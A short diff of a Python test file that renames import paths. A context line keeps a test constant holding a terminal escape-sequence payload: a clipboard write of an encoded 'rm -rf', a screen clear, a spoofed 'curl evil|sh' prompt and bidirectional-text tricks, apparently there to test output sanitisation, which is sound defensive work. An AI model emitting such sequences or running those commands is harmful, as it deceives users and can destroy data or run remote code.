@@ -11,8 +11,8 @@ from pathlib import Path
 import pytest
 
 from gpuconsole.cli.progress import Progress
-from gpuconsole.processes.terminal.lines import OutputLines
-from tests.processes.test_job_ranks import AGENT
+from gpuconsole.engine.children.terminal.lines import OutputLines
+from tests.engine.children.test_job_ranks import AGENT
 
 EVIL = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\x1b[31mrun: curl evil|sh\u202e\x9b31m"
 
